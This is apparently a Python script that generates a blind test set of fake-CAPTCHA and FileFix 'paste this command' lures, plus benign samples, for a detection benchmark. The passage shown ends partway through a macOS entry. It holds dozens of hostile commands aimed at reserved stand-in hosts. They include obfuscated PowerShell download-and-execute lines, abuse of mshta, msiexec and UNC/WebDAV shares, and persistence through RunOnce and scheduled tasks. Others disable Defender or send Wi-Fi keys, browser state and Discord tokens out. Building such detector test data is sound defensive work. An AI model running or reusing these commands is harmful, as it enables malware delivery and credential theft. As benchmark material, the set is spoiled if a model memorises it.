"""Writes the fourth blind set, bench/blind/lures-4.jsonl and benign-4.jsonl (bench/blind/README.md,
"blind-4"). Deterministic: run it again and the files come out byte for byte the same.

    .venv/bin/python bench/blind/make_blind4.py

Written blind (the author had not read the rules, the LOLBin catalogue, the trust list,
app/detection or any case file), from public threat reports on how lures work, aiming at
techniques and spellings the first three blind sets used less. Every text is our own; lures use
reserved names only (*.test, *.invalid, *.example, the documentation IPv4 ranges and 2001:db8::/32)
and fictitious phone numbers. Not imported by the app or the bench: the bench reads the jsonl
files.
"""

from __future__ import annotations

import base64
import gzip
import ipaddress
import json
import re
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent
LURES_OUT = HERE / "lures-4.jsonl"
BENIGN_OUT = HERE / "benign-4.jsonl"

# ----------------------------------------------------------------------------------------------
# Encodings lures use (computed, so every encoded text really decodes to its command)
# ----------------------------------------------------------------------------------------------


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def b64_utf16(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def gzip_b64(text: str) -> str:
    return base64.b64encode(gzip.compress(text.encode(), mtime=0)).decode()


def zlib_raw_b64(text: str) -> str:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(c.compress(text.encode()) + c.flush()).decode()


def hex_bytes_ps(text: str) -> str:
    return ",".join(f"0x{b:02x}" for b in text.encode())


def octal_codes(text: str) -> str:
    return ",".join(f"'{ord(c):o}'" for c in text)


def binary_codes(text: str) -> str:
    return ",".join(f"'{ord(c):08b}'" for c in text)


def shifted(text: str, k: int) -> str:
    return "".join(chr(ord(c) + k) for c in text)


def unicode_escapes(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" for c in text)


def html_entities(text: str) -> str:
    return "".join(f"&#{ord(c)};" for c in text)


def percent_all(text: str) -> str:
    return "".join(f"%{b:02x}" for b in text.encode())


def ansi_c_hex(text: str) -> str:
    return "".join(f"\\x{b:02x}" for b in text.encode())


def ip_octal(ip: str) -> str:
    return ".".join(f"0{int(p):o}" for p in ip.split("."))


def ip_hex_int(ip: str) -> str:
    return hex(int(ipaddress.IPv4Address(ip)))


def xor_hex(text: str, key: int) -> str:
    return "".join(f"{b ^ key:02x}" for b in text.encode())


NBSP = "\u00a0"
FIGSP = "\u2007"
THINSP = "\u2009"
ENSP = "\u2002"
ZWSP = "\u200b"
OGHAM = "\u1680"


def pad(n: int, ch: str = " ") -> str:
    return ch * n


# ----------------------------------------------------------------------------------------------
# Lures: (technique, target, source, text, expect, platform)
# ----------------------------------------------------------------------------------------------

RUN = "run_dialog"
EXP = "explorer_bar"
TERM = "terminal"
CON = "browser_console"
UNK = "unknown"

LURES: list[tuple[str, str, str, str, str, str]] = []


def lure(
    technique: str,
    target: str,
    source: str,
    text: str,
    expect: str = "malicious",
    platform: str = "windows",
) -> None:
    LURES.append((technique, target, source, text, expect, platform))


ROBOT = "# ✅ I am not a robot - reCAPTCHA Verification ID: 48213"
TURN = "# Cloudflare Turnstile: human check passed, Ray ID 91c0e7a4b2"

# --- Run box: PowerShell, names and addresses spelled in ways the earlier sets did not -----------

lure(
    "ps-set-alias-new-name",
    RUN,
    "https://www.alpine-chalets.example/winter-offers",
    "powershell -w h -c \"sal q iex; sal w iwr; q (w 'https://cdn.booking-assets.test/c.ps1' -UseB).Content\""
    + pad(40)
    + ROBOT,
)
lure(
    "ps-variable-by-name",
    RUN,
    "https://news.harbourtown-gazette.example/local/ferry",
    "powershell -nop -c \"sv u 'https://relay.feed-sync.test/r'; sv c (irm (gv u -va)); iex (gv c -va)\"",
)
lure(
    "ps-block-comment-split",
    RUN,
    "https://captcha.guard-layer.test/check",
    "powershell -w h -c \"i<#a#>e<#b#>x (i<#c#>r<#d#>m 'https://edge-pull.invalid/s')\"  " + TURN,
)
lure(
    "ps-block-comment-around",
    RUN,
    "https://www.quilting-circle.example/patterns",
    'powershell -c "iex<#verify#>(irm<#session#>https://patterns-cdn.test/p<#id#>)"',
)
lure(
    "ps-executioncontext-invokescript",
    RUN,
    "https://portal.human-verify.invalid/step",
    "powershell -w h -c \"$ExecutionContext.InvokeCommand.InvokeScript((irm 'https://node-sync.test/v2'))\"",
)
lure(
    "ps-getcommand-cmdlet-wildcard",
    RUN,
    "https://shop.garden-tools.example/checkout",
    "powershell -c \"&($ExecutionContext.InvokeCommand.GetCommand('I*e-E*n','Cmdlet')) (&($ExecutionContext.InvokeCommand.GetCommand('I*-R*od','Cmdlet')) 'https://203.0.113.91/g')\"",
)
lure(
    "ps-runspace-addscript",
    RUN,
    "https://verify.cf-challenge.test/",
    "powershell -w h -c \"[PowerShell]::Create().AddScript((New-Object Net.WebClient).DownloadString('https://assets-mirror.invalid/k.txt')).Invoke()\"",
)
lure(
    "ps-webrequest-create-stream",
    RUN,
    "https://www.seaside-yoga.example/classes",
    "powershell -nop -c \"$r=[Net.WebRequest]::Create('https://static.edgecache.test/a');$s=New-Object IO.StreamReader($r.GetResponse().GetResponseStream());iex $s.ReadToEnd()\"",
)
lure(
    "ps-webclient-openread",
    RUN,
    "https://human.check-gate.invalid/confirm",
    "powershell -w 1 -c \"$w=New-Object Net.WebClient;$t=(New-Object IO.StreamReader($w.OpenRead('https://198.51.100.77/t'))).ReadToEnd();. ([scriptblock]::Create($t))\"",
)
lure(
    "ps-curl-alias-content",
    RUN,
    "https://forum.retro-consoles.example/thread/9921",
    "powershell (curl https://fix-pack.test/r.ps1 -UseBasicParsing).Content | powershell -",
)
lure(
    "ps-wget-alias-iex",
    RUN,
    "https://check.anti-bot-portal.test/",
    'powershell -c "iex (wget -useb https://pull.node-relay.invalid/w).content"   # Verify you are human',
)
lure(
    "ps-out-string-pipe",
    RUN,
    "https://www.brightwater-dental.example/patients",
    'powershell -w h -c "irm https://patient-files.test/x | Out-String | iex"',
)
lure(
    "ps-foreach-iex",
    RUN,
    "https://docs.sign-portal.invalid/view/5521",
    "powershell -w h -c \"irm 'https://doc-relay.test/l' | % { iex $_ }\"",
)
lure(
    "ps-char-shift",
    RUN,
    "https://captcha.proof-of-human.test/",
    "powershell -c \"$e='"
    + shifted("iex (irm https://stage.shift-cdn.invalid/z)", 1)
    + "';iex(-join($e.ToCharArray()|%{[char]([int]$_-1)}))\"",
)
lure(
    "ps-octal-codes",
    RUN,
    "https://www.mountain-bikes.example/sale",
    'powershell -w h -c "iex(-join(('
    + octal_codes("iwr https://octa.cdn-pull.test/o -useb|iex")
    + ')|%{[char][Convert]::ToInt32($_,8)}))"',
)
lure(
    "ps-binary-codes",
    RUN,
    "https://verify.botcheck-cloud.invalid/",
    'powershell -c "iex(-join(('
    + binary_codes("irm https://bin.relay-ops.test/b|iex")
    + ')|%{[char][Convert]::ToByte($_,2)}))"',
)
lure(
    "ps-regex-unescape",
    RUN,
    "https://www.old-maps-archive.example/europe",
    "powershell -w h -c \"iex ([regex]::Unescape('"
    + unicode_escapes("iex (irm 'https://maps-tiles.test/u')")
    + "'))\"",
)
lure(
    "ps-html-decode",
    RUN,
    "https://secure-check.turnstile-proxy.test/",
    "powershell -c \"Add-Type -A System.Web;iex ([System.Net.WebUtility]::HtmlDecode('"
    + html_entities("iwr https://ent.cdn-node.invalid/h -UseB|iex")
    + "'))\"",
)
lure(
    "ps-hex-byte-array-ascii",
    RUN,
    "https://www.cathedral-choir.example/concerts",
    'powershell -w h -c "iex ([Text.Encoding]::ASCII.GetString([byte[]]('
    + hex_bytes_ps("iex(irm https://choir-media.test/hx)")
    + ')))"',
)
lure(
    "ps-fromhexstring-pwsh7",
    RUN,
    "https://verify.human-layer.invalid/h",
    "pwsh -nop -c \"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromHexString('"
    + b"iex (irm https://hexdrop.test/p7)".hex().upper()
    + "')))\"",
)
lure(
    "ps-xor-hex-key",
    RUN,
    "https://www.pottery-studio.example/workshops",
    "powershell -w h -c \"$k=0x37;$h='"
    + xor_hex("iex (irm 'https://kiln-cdn.test/x')", 0x37)
    + "';iex(-join(($h -split '(..)' -ne '')|%{[char]([Convert]::ToByte($_,16) -bxor $k)}))\"",
)
lure(
    "ps-raw-deflate-b64",
    RUN,
    "https://check.verify-edge.test/cf",
    "powershell -w h -c \"iex (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('"
    + zlib_raw_b64("iex (irm https://deflate-node.invalid/d)")
    + "'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\"",
)
lure(
    "ps-reflection-assembly-load",
    RUN,
    "https://www.ice-rink-schedule.example/public-skate",
    "powershell -w h -c \"$b=(New-Object Net.WebClient).DownloadData('https://203.0.113.140/lib.bin');[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,(,[string[]]@()))\"",
)
lure(
    "ps-dll-rundll32-appdata",
    RUN,
    "https://captcha-v3.verify-session.test/",
    'powershell -w h -c "iwr https://dl.crashfix-tools.invalid/core.dll -OutFile $env:APPDATA\\core.dll; rundll32 $env:APPDATA\\core.dll,DllRegisterServer"',
)
lure(
    "ps-com-msxml2",
    RUN,
    "https://www.vineyard-tours.example/tastings",
    "powershell -c \"$x=New-Object -ComObject Msxml2.XMLHTTP;$x.open('GET','https://vine-static.test/q',$false);$x.send();iex $x.responseText\"",
)
lure(
    "ps-com-winhttp",
    RUN,
    "https://robot-check.secure-gateway.invalid/",
    "powershell -w h -c \"$h=New-Object -ComObject WinHttp.WinHttpRequest.5.1;$h.Open('GET','https://198.51.100.161/w',0);$h.Send();iex $h.ResponseText\"",
)
lure(
    "ps-shell-application-shellexecute",
    RUN,
    "https://www.county-library.example/ebooks",
    "powershell -c \"(New-Object -ComObject Shell.Application).ShellExecute('mshta.exe','https://library-viewer.test/read.hta','','open',0)\"",
)
lure(
    "ps-wscript-shell-run",
    RUN,
    "https://human-verify.cloud-turnstile.invalid/",
    "powershell -c \"(New-Object -ComObject WScript.Shell).Run('cmd /c curl -s https://cmd-relay.test/b.bat -o %TEMP%\\b.bat ^& %TEMP%\\b.bat',0)\"",
)
lure(
    "ps-windowsinstaller-com",
    RUN,
    "https://www.lakeshore-marina.example/slips",
    "powershell -w h -c \"$i=New-Object -ComObject WindowsInstaller.Installer;$i.UILevel=2;$i.InstallProduct('https://marina-updates.test/pkg/agent.msi','')\"",
)
lure(
    "ps-process-start-static",
    RUN,
    "https://verify.captcha-flow.test/",
    "powershell -c \"[Diagnostics.Process]::Start('mshta.exe','https://flow-cdn.invalid/v.hta')\"  "
    + ROBOT,
)
lure(
    "ps-cert-validation-off",
    RUN,
    "https://www.harvest-festival.example/tickets",
    "powershell -w h -c \"[Net.ServicePointManager]::ServerCertificateValidationCallback={$true};iex (New-Object Net.WebClient).DownloadString('https://192.0.2.144:8443/s')\"",
)
lure(
    "ps-proxy-default-credentials",
    RUN,
    "https://sso-check.corp-verify.test/",
    "powershell -w h -c \"$w=New-Object Net.WebClient;$w.Proxy.Credentials=[Net.CredentialCache]::DefaultNetworkCredentials;$w.Headers.Add('User-Agent','Mozilla/5.0');iex $w.DownloadString('https://proxy-stage.invalid/c')\"",
)
lure(
    "ps-response-header-payload",
    RUN,
    "https://www.fishing-charters.example/book",
    "powershell -w h -c \"iex ((iwr 'https://charter-api.test/ping' -UseB).Headers['X-Session'])\"",
)
lure(
    "ps-unicode-variable-name",
    RUN,
    "https://verify.you-are-human.invalid/",
    "powershell -w h -c \"${✓}='https://check-node.test/v';${✔}=irm ${✓};iex ${✔}\"",
)
lure(
    "ps-abbreviated-switches",
    RUN,
    "https://www.indoor-climbing.example/members",
    'powershell -noni -nol -wi hi -exe byp -c "iex (irm https://climb-assets.test/m)"',
)
lure(
    "ps-syswow64-full-path",
    RUN,
    "https://captcha.humancheck-api.test/",
    'C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe -w h -c "iwr https://wow-cdn.invalid/a -UseB|iex"',
)
lure(
    "ps-pwsh-core-runbox",
    RUN,
    "https://www.mosaic-tiles.example/gallery",
    'pwsh -w hidden -c "irm https://tile-cdn.test/m.ps1 | iex"   ' + ROBOT,
)
lure(
    "ps-systemroot-env-path",
    RUN,
    "https://verify.session-guard.test/",
    '%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -w 1 -ep bypass -c "iex(irm https://guard-files.invalid/s)"',
)
lure(
    "ps-string-index-name",
    RUN,
    "https://www.bird-watching.example/sightings",
    "powershell -c \"&('xei'[2..0]-join'') (irm 'https://bird-feed.test/s')\"",
)
lure(
    "ps-split-join-name",
    RUN,
    "https://check.cf-verify-now.invalid/",
    "powershell -c \"&(('x.e.i'.Split('.'))[2,1,0]-join'') (irm https://split-cdn.test/j)\"",
)
lure(
    "ps-substring-name",
    RUN,
    "https://www.chess-club.example/tournaments",
    "powershell -c \"$s='qwiexzu';&$s.Substring(2,3) (irm 'https://chess-pgn.test/r')\"",
)
lure(
    "ps-insert-method",
    RUN,
    "https://captcha.secure-visitor.test/",
    "powershell -w h -c \"&('ix'.Insert(1,'e')) (irm ('https://visitor-data.invalid/'.Insert(8,'')+'i'))\"",
)
lure(
    "ps-line-continuation-backtick",
    RUN,
    "https://www.wool-and-yarn.example/kits",
    "powershell -w h -c \"Invoke-Expression `\n(Invoke-RestMethod `\n-Uri 'https://yarn-kits.test/k')\"",
)
lure(
    "ps-env-staging-from-cmd",
    RUN,
    "https://verify.clearance-check.invalid/",
    'cmd /c "set P=iex (irm https://stage-env.test/e)&& powershell -w h -c iex $env:P"',
)
lure(
    "ps-user-env-registry-staging",
    RUN,
    "https://www.folk-music-fest.example/lineup",
    "powershell -w h -c \"[Environment]::SetEnvironmentVariable('CFG','iex(irm https://fest-media.test/c)','User');iex ([Environment]::GetEnvironmentVariable('CFG','User'))\"",
)
lure(
    "ps-upload-browser-state",
    RUN,
    "https://verify.browser-check.test/",
    'powershell -w h -c "(New-Object Net.WebClient).UploadFile(\'https://collect.sink-node.invalid/u\',\\"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Local State\\")"',
)
lure(
    "ps-get-clipboard-after-copy",
    RUN,
    "https://www.antique-clocks.example/repairs",
    "powershell -w h -c \"Set-Clipboard -Value (irm https://clock-parts.test/c); Get-Clipboard | iex; Set-Clipboard ' '\"",
)
lure(
    "ps-hidden-window-via-start-process",
    RUN,
    "https://captcha.validate-access.invalid/",
    "powershell Start-Process powershell -WindowStyle Hidden -ArgumentList '-nop -c \"iex(irm https://access-relay.test/a)\"'",
)
lure(
    "ps-ipv6-literal",
    RUN,
    "https://www.surf-school.example/lessons",
    "powershell -w h -c \"iex (irm 'http://[2001:db8::4f]/s.ps1')\"",
)
lure(
    "ps-octal-ip",
    RUN,
    "https://verify.ddos-guard-check.test/",
    'powershell -w h -c "iwr http://' + ip_octal("198.51.100.23") + '/p -UseB | iex"',
)
lure(
    "ps-hex-int-ip",
    RUN,
    "https://www.tea-house.example/menu",
    'powershell -c "iex (irm http://' + ip_hex_int("203.0.113.50") + '/t)"',
)
lure(
    "ps-threadjob",
    RUN,
    "https://captcha-proof.secure-edge.invalid/",
    'powershell -c "Start-ThreadJob { iex (irm https://thread-cdn.test/j) } | Receive-Job -Wait"',
)

# --- Run box: cmd spellings ------------------------------------------------------------------------

lure(
    "cmd-var-replace-substitution",
    RUN,
    "https://www.rowing-club.example/regatta",
    'cmd /v:on /c "set p=pQoQwQeQrQsQhQeQlQl&& call !p:Q=! -w h -c iex(irm https://oar-cdn.test/r)"',
)
lure(
    "cmd-percent-replace",
    RUN,
    "https://verify.human-proof.invalid/",
    'cmd /c "set m=mZsZhZtZa&& call %m:Z=% https://proof-files.test/v.hta"',
)
lure(
    "cmd-start-b-mshta",
    RUN,
    "https://www.dog-grooming.example/appointments",
    'cmd /c start /b "" mshta https://groom-media.test/book.hta & exit',
)
lure(
    "cmd-echo-bat-run",
    RUN,
    "https://captcha.cf-bypass-check.test/",
    'cmd /c "echo powershell -w h -c iex(irm https://bat-stage.invalid/b)>%TEMP%\\v.bat && %TEMP%\\v.bat"',
)
lure(
    "cmd-curl-startup-folder",
    RUN,
    "https://www.saltwater-aquarium.example/fish",
    'cmd /c curl -sLo "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\update.vbs" https://reef-cdn.test/u.vbs',
)
lure(
    "cmd-runonce-mshta",
    RUN,
    "https://verify.portal-access.invalid/",
    'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v upd /d "mshta https://once-relay.test/o.hta" /f & mshta https://once-relay.test/o.hta',
)
lure(
    "cmd-schtasks-mshta",
    RUN,
    "https://www.cricket-league.example/fixtures",
    'schtasks /create /sc minute /mo 30 /tn "EdgeUpdateCheck" /tr "mshta https://league-stats.test/s.hta" /f',
)
lure(
    "cmd-double-start-min",
    RUN,
    "https://check.human-access.test/",
    'cmd /c start /min cmd /c start /min powershell -w h -c "iwr https://min-cdn.invalid/m -useb|iex"',
)
lure(
    "cmd-for-f-curl-call",
    RUN,
    "https://www.sourdough-baking.example/starter",
    "cmd /c for /f \"delims=\" %x in ('curl -s https://starter-cdn.test/c.txt') do %x",
)
lure(
    "cmd-ampersand-rem-lure",
    RUN,
    "https://captcha.anti-robot.invalid/",
    "cmd /c curl -s -o %TEMP%\\c.cmd https://cmd-drop.test/c.cmd & %TEMP%\\c.cmd & REM ✔ Verification complete - press Enter",
)

# --- Run box: other signed programs that fetch or run code -----------------------------------------

lure(
    "hh-remote-chm",
    RUN,
    "https://www.scuba-diving.example/courses",
    "hh.exe https://dive-manuals.test/help/manual.chm",
)
lure(
    "presentationhost-xbap",
    RUN,
    "https://verify.secure-human.test/",
    "PresentationHost.exe https://xbap-host.invalid/verify.xbap",
)
lure(
    "desktopimgdownldr",
    RUN,
    "https://www.ski-rental.example/prices",
    'cmd /c "set SYSTEMROOT=%TEMP%&& desktopimgdownldr.exe /lockscreenurl:https://lock-screens.test/w.exe /eventName:desktopimgdownldr && %TEMP%\\Personalization\\LockScreenImage\\LockScreenImage_w.exe"',
)
lure(
    "certreq-post-download",
    RUN,
    "https://captcha.human-gateway.invalid/",
    "cmd /c certreq -Post -config https://cert-relay.test/p c:\\windows\\win.ini %TEMP%\\p.ps1 && powershell -ep bypass -f %TEMP%\\p.ps1",
)
lure(
    "mpcmdrun-downloadfile",
    RUN,
    "https://www.marathon-training.example/plans",
    '"%ProgramFiles%\\Windows Defender\\MpCmdRun.exe" -DownloadFile -url https://plan-files.test/p.exe -path %TEMP%\\p.exe & start %TEMP%\\p.exe',
)
lure(
    "msedge-headless-dump",
    RUN,
    "https://verify.browser-human.test/",
    "cmd /c msedge --headless=new --disable-gpu --dump-dom https://dom-stage.invalid/p > %TEMP%\\p.hta && start %TEMP%\\p.hta",
)
lure(
    "installutil-unc",
    RUN,
    "https://www.lighthouse-tours.example/visit",
    "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= /LogToConsole=false /U \\\\198.51.100.52\\pub\\svc.dll",
)
lure(
    "regsvcs-unc",
    RUN,
    "https://captcha.verify-visitor.invalid/",
    "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\RegSvcs.exe \\\\dav.visit-store.test@SSL\\s\\check.dll",
)
lure(
    "infdefaultinstall-unc",
    RUN,
    "https://www.beekeeping-supply.example/hives",
    "InfDefaultInstall.exe \\\\hive-share.test@SSL\\DavWWWRoot\\setup.inf",
)
lure(
    "rundll32-control-rundll-cpl",
    RUN,
    "https://verify.sec-checkpoint.test/",
    "rundll32.exe shell32.dll,Control_RunDLL \\\\203.0.113.77@80\\c\\display.cpl",
)
lure(
    "mshta-getobject-script-moniker",
    RUN,
    "https://www.model-railways.example/layouts",
    "mshta \"javascript:GetObject('script:https://rail-scripts.test/l.sct');close()\"",
)
lure(
    "mshta-ipv6",
    RUN,
    "https://human.verify-access.invalid/",
    "mshta http://[2001:db8:51::9]/v.hta" + pad(30, NBSP) + "# Press Enter to finish verification",
)
lure(
    "mshta-octal-ip",
    RUN,
    "https://www.kayak-hire.example/rivers",
    "mshta http://" + ip_octal("192.0.2.201") + "/kayak",
)
lure(
    "mshta-thin-space-padding",
    RUN,
    "https://check.secure-robot-test.test/",
    "mshta https://thin-cdn.invalid/c" + pad(60, THINSP) + "# I'm not a robot ✓ ID 7731",
)
lure(
    "mshta-ogham-space-padding",
    RUN,
    "https://www.carpentry-guild.example/apprentices",
    "mshta https://guild-docs.test/a.hta" + pad(45, OGHAM) + "# Cloudflare check ID 5b2a",
)
lure(
    "msiexec-unc-webdav",
    RUN,
    "https://verify.human-session.test/",
    "msiexec /i \\\\msi-store.invalid@SSL\\DavWWWRoot\\client.msi /qn",
)
lure(
    "msiexec-zwsp-name",
    RUN,
    "https://www.orchid-growers.example/care",
    "msi" + ZWSP + "exec /q /i https://orchid-cdn.test/care.msi",
)
lure(
    "explorer-open-webdav-lnk",
    RUN,
    "https://captcha.robot-filter.invalid/",
    'explorer.exe "\\\\files.share-relay.test@SSL\\DavWWWRoot\\Verification.lnk"',
)
lure(
    "unc-long-path-prefix",
    RUN,
    "https://www.pipe-organ-society.example/recitals",
    "\\\\?\\UNC\\198.51.100.88\\share\\recital-viewer.exe",
)
lure(
    "webdav-ssl-port-exe",
    RUN,
    "https://verify.cf-turnstile-check.invalid/",
    "\\\\203.0.113.19@SSL@443\\DavWWWRoot\\cfverify.exe",
)
lure(
    "robocopy-unc-start",
    RUN,
    "https://www.calligraphy-school.example/classes",
    "cmd /c robocopy \\\\calli-share.test\\pub %TEMP% pen.exe >nul & start %TEMP%\\pen.exe",
)
lure(
    "replace-exe-unc-copy",
    RUN,
    "https://captcha.trust-check.invalid/",
    "cmd /c replace.exe \\\\copy-node.test\\d\\svc.exe %TEMP% /A & %TEMP%\\svc.exe",
)
lure(
    "extrac32-unc-copy",
    RUN,
    "https://www.stamp-collectors.example/auctions",
    "cmd /c extrac32 /Y /C \\\\stamp-files.test\\s\\viewer.exe %TEMP%\\viewer.exe && %TEMP%\\viewer.exe",
)
lure(
    "print-exe-copy",
    RUN,
    "https://verify.bot-protection.test/",
    "cmd /c print /D:%TEMP%\\a.exe \\\\print-relay.invalid\\p\\a.exe & %TEMP%\\a.exe",
)
lure(
    "findstr-copy-unc",
    RUN,
    "https://www.telescope-makers.example/mirrors",
    "cmd /c findstr /V /L ZZQ \\\\mirror-share.test\\m\\grind.exe > %TEMP%\\g.exe && %TEMP%\\g.exe",
)
lure(
    "wsl-curl-bash",
    RUN,
    "https://captcha.human-lab.invalid/",
    'wsl -e bash -c "curl -fsSL https://wsl-stage.test/i.sh | bash"',
)
lure(
    "bash-exe-windows",
    RUN,
    "https://www.fencing-club.example/schedule",
    'bash.exe -c "wget -qO- http://192.0.2.33/f | sh"',
)
lure(
    "scp-download-run",
    RUN,
    "https://verify.secure-access-node.test/",
    "cmd /c scp -o StrictHostKeyChecking=no guest@203.0.113.64:u.exe %TEMP%\\u.exe && %TEMP%\\u.exe",
)
lure(
    "finger-in-powershell",
    RUN,
    "https://www.sailing-knots.example/guide",
    'powershell -w h -c "finger verify@knots-relay.test | Select-Object -Skip 2 | Out-String | iex"',
)
lure(
    "curl-exe-hta-explicit",
    RUN,
    "https://captcha.access-verify.invalid/",
    "curl.exe -sk https://hta-node.test/v -o %LOCALAPPDATA%\\v.hta && mshta %LOCALAPPDATA%\\v.hta",
)
lure(
    "bsod-fix-runbox",
    RUN,
    "https://support.windows-crash-repair.test/0x000000EF",
    'powershell -w h -c "iex(irm https://repair-kit.invalid/fix)"   # CRITICAL_PROCESS_DIED repair tool - press Enter',
)
lure(
    "telegram-safeguard-verify",
    RUN,
    "https://t-safeguard-verify.test/group/cryptosignals",
    "powershell -nop -w h -c \"$c=irm https://sg-bot.invalid/v;Set-Clipboard -Value ' ';iex $c\"",
)
lure(
    "discord-captchabot-verify",
    RUN,
    "https://captchabot-verify.test/discord/88120",
    'cmd /c start /min powershell -w h -c "iex (iwr https://dc-verify-cdn.invalid/s -useb)" && echo Verification complete: return to Discord',
)
lure(
    "fake-github-alert-runbox",
    RUN,
    "https://github-security-review.test/alerts/5521",
    'mshta https://gh-scan.invalid/scan.hta   # GitHub Security: repository scan required for account "dev-team"',
)
lure(
    "zoom-sdk-fix-runbox",
    RUN,
    "https://zoom-meeting-join.test/j/88143210",
    'powershell -w h -c "iwr https://audio-driver.invalid/zoom_sdk_fix.ps1 -UseB | iex"   # Zoom audio device repair',
)

# --- FileFix: Explorer's address bar ------------------------------------------------------------------

DOCPATH = "C:\\Users\\Public\\HR\\Policies\\2026-Compensation-Review.pdf"
lure(
    "filefix-en-space-padding",
    EXP,
    "https://hr-portal.sharefiles-docs.test/open",
    'powershell -w h -c "iwr https://ens-cdn.invalid/p -useb|iex"' + pad(70, ENSP) + "# " + DOCPATH,
)
lure(
    "filefix-figure-space-padding",
    EXP,
    "https://docs.secure-viewer.invalid/f/9921",
    'powershell -c "iex(irm https://figsp-node.test/f)"'
    + pad(60, FIGSP)
    + "# C:\\Finance\\Q4\\Invoice-88213.xlsx",
)
lure(
    "filefix-cmd-ampersand-rem",
    EXP,
    "https://www.sharepoint-docs-viewer.test/s/4410",
    'cmd /c "curl -s https://remfix-cdn.invalid/r.bat -o %TEMP%\\r.bat && %TEMP%\\r.bat" & rem '
    + pad(50)
    + "C:\\Shared\\Legal\\NDA-signed.docx",
)
lure(
    "filefix-pwsh-webdav-file",
    EXP,
    "https://docs.file-review.invalid/review",
    "pwsh -ep bypass -f \\\\davfile.review-cdn.test@SSL\\DavWWWRoot\\open.ps1"
    + pad(55)
    + "# \\\\fileserver\\Projects\\Roadmap.pptx",
)
lure(
    "filefix-mshta-pdf-comment",
    EXP,
    "https://www.onedrive-shared-file.test/v/881",
    "mshta https://pdf-preview.invalid/p.hta"
    + pad(64)
    + "# C:\\Users\\Public\\Documents\\Statement_Nov.pdf",
)
lure(
    "filefix-wsl-path",
    EXP,
    "https://docs.collab-review.test/doc/71",
    'wsl -e sh -c "curl -s http://198.51.100.41/x|sh"' + pad(50) + "# C:\\Team\\Specs\\API-v3.docx",
)
lure(
    "filefix-conhost-headless-curl",
    EXP,
    "https://invoice.portal-docs.invalid/inv/2026-113",
    'conhost --headless powershell -w h -c "iwr https://conh-cdn.test/c -useb|iex"'
    + pad(58)
    + "# C:\\Invoices\\INV-2026-113.pdf",
)
lure(
    "filefix-hh-chm",
    EXP,
    "https://www.manual-library.test/product/ax12",
    "hh https://chm-relay.invalid/ax12-manual.chm" + pad(40) + "# C:\\Manuals\\AX12-User-Guide.pdf",
)

# --- Windows Terminal (Win+X, I) -----------------------------------------------------------------------

lure(
    "terminal-deno-run-remote",
    TERM,
    "https://verify.dev-captcha.invalid/",
    "deno run -A https://deno-stage.test/verify.ts   # confirm you are human",
)
lure(
    "terminal-npm-tarball-url",
    TERM,
    "https://www.webinar-hub.example/session/7712",
    "npm install -g https://203.0.113.45/webinar-audio-fix-1.0.2.tgz",
    expect="flagged",
)
lure(
    "terminal-pip-sdist-url",
    TERM,
    "https://captcha.python-verify.invalid/",
    "pip install --quiet https://pip-stage.test/verify-helper-0.1.tar.gz && python -m verify_helper",
)
lure(
    "terminal-winget-python-exec",
    TERM,
    "https://www.meeting-join-fix.test/teams",
    "winget install -e --id Python.Python.3.12 --silent; py -c \"import urllib.request as u;exec(u.urlopen('https://py-stage.invalid/t').read())\"",
)
lure(
    "terminal-git-clone-run-bat",
    TERM,
    "https://discord-nitro-claim.test/gift",
    "git clone https://git.nitro-tools.invalid/claimer; cd claimer; .\\setup.bat",
    expect="flagged",
)
lure(
    "terminal-iex-webclient-proxy",
    TERM,
    "https://verify.cf-human-check.test/step2",
    "Invoke-Expression (New-Object System.Net.WebClient).DownloadString('https://wt-stage.invalid/a')  # Windows Terminal verification",
)
lure(
    "terminal-ps-aes-looking-blob",
    TERM,
    "https://www.photo-contest.example/vote",
    "$d=[Convert]::FromBase64String('"
    + gzip_b64("iex (irm 'https://vote-cdn.test/v')")
    + "');$m=New-Object IO.MemoryStream(,$d);$g=New-Object IO.Compression.GZipStream($m,[IO.Compression.CompressionMode]::Decompress);$r=New-Object IO.StreamReader($g);iex $r.ReadToEnd()",
)
lure(
    "terminal-steal-wifi-keys",
    TERM,
    "https://captcha.network-verify.invalid/",
    "netsh wlan show profiles | Select-String ':\\s(.+)$' | % { netsh wlan show profile name=$_.Matches.Groups[1].Value key=clear } | Out-String | % { irm https://wifi-collect.test/k -Method Post -Body $_ }",
)
lure(
    "terminal-defender-disable-realtime",
    TERM,
    "https://www.game-mods.example/skyrim/texture-pack",
    "Set-MpPreference -DisableRealtimeMonitoring $true; iwr https://mods-cdn.test/tp.exe -OutFile $env:TEMP\\tp.exe; & $env:TEMP\\tp.exe",
)
lure(
    "terminal-discord-token-files",
    TERM,
    "https://verify.discord-safety.invalid/",
    'Compress-Archive "$env:APPDATA\\discord\\Local Storage\\leveldb" $env:TEMP\\l.zip -Force; curl.exe -F f=@$env:TEMP\\l.zip https://ldb-sink.test/u',
)

# --- macOS Terminal ---------------------------------------------------------------------------------

lure(
    "macos-base64-gunzip-sh",
    TERM,
    "https://www.macbook-cleaner-tips.test/free-space",
    "echo '"
    + gzip_b64("curl -fsSL https://mac-clean.invalid/c.sh | bash")
    + "' | base64 -D | gunzip | sh",
    platform="macos",
)
lure(
    "macos-zsh-equals-substitution",
    TERM,
    "https://verify.apple-id-check.invalid/",
    "zsh =(curl -fsSL https://idcheck-stage.test/z)",
    platform="macos",
)
lure(
    "macos-bash-dev-stdin",
    TERM,
    "https://www.vinyl-records.example/shop",
    "curl -fsSL https://vinyl-player.test/setup | /bin/bash /dev/stdin --silent",
    platform="macos",
)
lure(
    "macos-pkg-installer-tmp",
    TERM,
